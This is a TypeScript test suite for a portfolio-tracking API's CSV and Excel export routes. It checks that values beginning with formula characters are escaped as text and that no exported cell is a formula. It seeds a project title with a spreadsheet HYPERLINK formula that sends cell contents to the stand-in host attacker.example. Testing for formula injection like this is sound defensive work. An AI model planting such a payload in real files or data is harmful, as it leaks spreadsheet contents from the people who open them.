/** The portfolio and a cycle's status as CSV and XLSX: read from the records, for observers too, safe to open. */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import type { SuiteContext } from './context';
import type { Stack } from './support';

const quarter = '2024-Q3';
const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")';

/** A cycle in the records: every project requested, one answered (with text that starts like a formula), one late. */
async function seedCycle(stack: Stack): Promise<void> {
  const { store } = stack;
  await store.cycles.open({
    mechanismId: 'cn-ls',
    quarter,
    workflowId: `cycle:cn-ls:${quarter}`,
    openedAt: '2024-09-02T06:00:00Z',
    dueDate: '2024-09-20',
  });
  for (const p of await store.projects.list('cn-ls', { status: 'active' }))
    await store.cycles.setProjectState({
      mechanismId: 'cn-ls',
      quarter,
      projectId: p.id,
      ownerId: p.owner,
      state: p.id === 'mpiti-road' ? 'submitted' : 'overdue',
      lastSendAt: '2024-09-02T07:00:00Z',
      ...(p.id !== 'mpiti-road' && { nextSendAt: '2024-09-23T07:00:00Z' }),
    });
  await store.submissions.recordSubmission({
    mechanismId: 'cn-ls',
    quarter,
    projectId: 'mpiti-road',
    body: {
      status: 'at-risk',
      statusReason: '-1 km behind plan',
      progressPercent: 45,
      achievements: '',
      challenges: '',
      supportRequested: '@customs: release the asphalt plant',
      nextSteps: '',
      milestoneUpdates: [],
      indicatorUpdates: [],
      actionItemUpdates: [],
    },
    submittedBy: 'roads-director',
    workflowId: `update:cn-ls:${quarter}:mpiti-road`,
    step: 'seed',
    receivedAt: '2024-09-18T10:00:00Z',
    late: false,
  });
  // A title typed by someone outside the secretariat, made to run when a spreadsheet opens the file.
  await store.db
    .updateTable('projects')
    .set({ title: FORMULA })
    .where('mechanism_id', '=', 'cn-ls')
    .where('id', '=', 'ramarothole-solar')
    .execute();
}

const rowsOf = async (xlsx: Buffer) => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(xlsx as unknown as ExcelJS.Buffer);
  const sheet = workbook.worksheets[0];
  const rows: ExcelJS.Row[] = [];
  sheet.eachRow((row) => rows.push(row));
  return { sheet, rows };
};

/** Registers the tests of the export routes. */
export function exportSuite(ctx: SuiteContext): void {
  describe('exports of the portfolio and a cycle', () => {
    test('an observer downloads the portfolio and the cycle status as CSV and as an Excel workbook, with formulas disarmed', async () => {
      const stack = ctx.stack();
      await seedCycle(stack);
      const observer = await stack.store.users.create({
        email: 'embassy-observer@example.org',
        name: 'Embassy Observer',
        password: 'a long enough password',
        role: 'observer',
      });
      const { token } = await stack.store.apiTokens.create({ name: 'observer', userId: observer.id, scope: 'read' });
      const as = { authorization: `Bearer ${token}` };

      // CSV: a header row, one row per project, the dangerous title kept as text behind an apostrophe.
      const portfolioCsv = await stack.call({
        method: 'GET',
        url: '/api/v1/mechanisms/cn-ls/portfolio/export',
        headers: as,
      });
      expect(portfolioCsv.statusCode).toBe(200);
      expect(portfolioCsv.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(portfolioCsv.headers['content-disposition']).toBe('attachment; filename="cn-ls-portfolio.csv"');
      const portfolio: string[][] = parse(portfolioCsv.rawPayload, { bom: true });
      const projects = await stack.store.projects.list('cn-ls');
      expect(portfolio).toHaveLength(projects.length + 1);
      expect(portfolio[0].slice(0, 4)).toEqual(['Project id', 'Project', 'Pillar', 'Owner']);
      const solar = portfolio.find((r) => r[0] === 'ramarothole-solar')!;
      expect(solar[1]).toBe(`'${FORMULA}`);
      const road = portfolio.find((r) => r[0] === 'mpiti-road')!;
      expect(road.slice(-4)).toEqual([quarter, 'submitted', 'at-risk', '45']);

      // XLSX of the cycle, read back with ExcelJS: text cells, never formulas; numbers stay numbers.
      const cycleXlsx = await stack.call({
        method: 'GET',
        url: `/api/v1/mechanisms/cn-ls/cycles/${quarter}/export?format=xlsx`,
        headers: as,
      });
      expect(cycleXlsx.statusCode).toBe(200);
      expect(cycleXlsx.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(cycleXlsx.headers['content-disposition']).toBe(`attachment; filename="cn-ls-${quarter}-status.xlsx"`);
      const { sheet, rows } = await rowsOf(cycleXlsx.rawPayload);
      expect(sheet.name).toBe(`${quarter} status`);
      expect(rows).toHaveLength(projects.filter((p) => p.status === 'active').length + 1);
      const header = (rows[0].values as ExcelJS.CellValue[]).slice(1);
      const column = (name: string) => header.indexOf(name) + 1;
      const rowOf = (id: string) => rows.find((r) => r.getCell(1).value === id)!;
      const solarCell = rowOf('ramarothole-solar').getCell(column('Project'));
      expect(solarCell.type).toBe(ExcelJS.ValueType.String);
      expect(solarCell.value).toBe(`'${FORMULA}`);
      const roadRow = rowOf('mpiti-road');
      expect(roadRow.getCell(column('Reason for the status')).value).toBe("'-1 km behind plan");
      expect(roadRow.getCell(column('Support requested')).value).toBe("'@customs: release the asphalt plant");
      expect(roadRow.getCell(column('Progress (%)')).value).toBe(45);
      expect(roadRow.getCell(column('Update state')).value).toBe('submitted');
      expect(rowOf('maseru-hospital').getCell(column('Next email (UTC)')).value).toBe('2024-09-23T07:00:00.000Z');
      for (const row of rows)
        row.eachCell((c) => {
          expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        });

      // And the other two: the cycle as CSV, the portfolio as a workbook.
      const cycleCsv: string[][] = parse(
        (await stack.call({ method: 'GET', url: `/api/v1/mechanisms/cn-ls/cycles/${quarter}/export?format=csv` }))
          .rawPayload,
        { bom: true },
      );
      expect(cycleCsv.find((r) => r[0] === 'ramarothole-solar')![1]).toBe(`'${FORMULA}`);
      const portfolioXlsx = await stack.call({
        method: 'GET',
        url: '/api/v1/mechanisms/cn-ls/portfolio/export?format=xlsx',
        headers: as,
      });
      const book = await rowsOf(portfolioXlsx.rawPayload);
      expect(book.rows).toHaveLength(projects.length + 1);
    });

    test('names the unknown cycle or format, and asks for a token', async () => {
      const stack = ctx.stack();
      const unknown = await stack.call({ method: 'GET', url: '/api/v1/mechanisms/cn-ls/cycles/2019-Q1/export' });
      expect(unknown.statusCode).toBe(404);
      expect(unknown.json().error.message).toMatch(/cycle cn-ls 2019-Q1/);
      const format = await stack.call({ method: 'GET', url: '/api/v1/mechanisms/cn-ls/portfolio/export?format=pdf' });
      expect(format.statusCode).toBe(400);
      expect(format.json().error.fields?.[0]?.field).toMatch(/format/);
      expect((await stack.raw({ method: 'GET', url: '/api/v1/mechanisms/cn-ls/portfolio/export' })).statusCode).toBe(
        401,
      );
    });
  });
}
